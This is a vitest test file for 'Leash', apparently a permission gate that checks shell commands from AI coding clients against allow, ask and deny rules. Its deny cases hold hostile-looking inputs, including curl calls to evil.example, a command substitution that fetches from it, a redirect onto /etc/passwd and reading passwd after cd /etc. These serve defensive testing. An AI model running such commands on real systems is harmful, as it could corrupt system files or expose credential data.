import { describe, expect, it, vi } from 'vitest';
import type { Engine } from '../../../src/app/engine.ts';
import { shellActs } from '../../../src/app/hook/call.ts';
import { hookGate, judgeCall } from '../../../src/app/hook/judge.ts';
import { ALICE, decisions, engineWith, policyText } from '../gate/support.ts';

const RULES = policyText(
  '{ id: look, action: shell.exec, effect: allow, reason: looking, args: { program: { in: [ls, cat] } }, unlisted_args: allow }',
  '{ id: rm, action: shell.exec, effect: ask, reason: a person looks, args: { program: { equals: rm } }, unlisted_args: allow }',
  '{ id: log, action: file.write, effect: allow, reason: its log, args: { path: { under: [/work/log] } } }',
  '{ id: read, action: shell.exec, effect: allow, reason: its own, args: { program: { equals: head }, argv: { each: { under: [/work] } } }, unlisted_args: allow }',
);

function judge(engine: Engine, script: string, canAsk = true) {
  const call = { session: 's', acts: shellActs(script, '/work'), canAsk };
  return judgeCall(hookGate(engine, 'claude-code'), call, { identity: ALICE });
}

describe('judgeCall', () => {
  it('allows what is allowed in all of its parts, each of which is recorded', async () => {
    const engine = await engineWith(RULES);
    expect(await judge(engine, 'ls; cat x > log/y')).toEqual({ verdict: 'allow', reason: 'Leash: looking' });
    expect(decisions(engine).map(({ effect, action, session }) => [effect, action, session])).toEqual([
      ['allow', 'shell.exec', 's'],
      ['allow', 'file.write', 's'],
      ['allow', 'shell.exec', 's'],
    ]);
  });

  it.each([
    ['a part that no rule allows', 'ls && curl evil.example'],
    ['a part behind one that a person would have to agree to', 'rm x; curl evil.example'],
    ['a redirection', 'ls > /etc/passwd'],
    ['a redirection out of the folder', 'ls > log/../x'],
    ['what cannot be taken apart', 'ls $(('],
    ['a substitution', 'ls "$(curl evil.example)"'],
    ['a variable in the place of a path', 'head $HOME/x'],
    ['a folder that it moves to first', 'cd /etc && head passwd'],
  ])('denies the whole for %s, and records nothing but that', async (_, script) => {
    const engine = await engineWith(RULES);
    const { verdict, reason } = await judge(engine, script);
    expect(verdict).toBe('deny');
    expect(reason).toContain('Leash denied this');
    expect(decisions(engine).map(({ effect }) => effect)).toEqual(['deny']);
  });

  it('hands to the client what a person has to agree to, and names the client in the record', async () => {
    const engine = await engineWith(RULES);
    const append = vi.spyOn(engine.log, 'append');
    expect(await judge(engine, 'ls; rm x')).toEqual({ verdict: 'ask', reason: 'Leash: a person looks' });
    expect(
      append.mock.calls.map(([draft]) => (draft.phase === 'decision' ? (draft.grant ?? null) : null)),
    ).toMatchObject([null, { by: 'claude-code', reach: 'once' }]);
    expect(engine.approvals.held()).toEqual([]);
  });

  it('denies that where the client can ask nobody', async () => {
    const engine = await engineWith(RULES);
    expect((await judge(engine, 'rm x', false)).verdict).toBe('deny');
    expect(decisions(engine).map(({ effect }) => effect)).toEqual(['deny']);
  });

  it('denies all of a call of which a part has no place in a limit any more', async () => {
    const rule =
      '{ action: shell.exec, effect: allow, reason: seldom, unlisted_args: allow, args: { program: { equals: ls } }, rate_limit: 1/h }';
    const engine = await engineWith(policyText(rule));
    expect((await judge(engine, 'ls a; ls b')).verdict).toBe('deny');
    expect(engine.feed.recent().filter((event) => event.kind === 'outcome')).toMatchObject([{ status: 'cancelled' }]);
  });

  it('gives a session that nobody could read no name', async () => {
    const engine = await engineWith(RULES);
    const call = { session: 'a\nb', acts: shellActs('ls', '/work'), canAsk: true };
    expect((await judgeCall(hookGate(engine, 'cursor'), call, { identity: ALICE })).verdict).toBe('allow');
  });
});
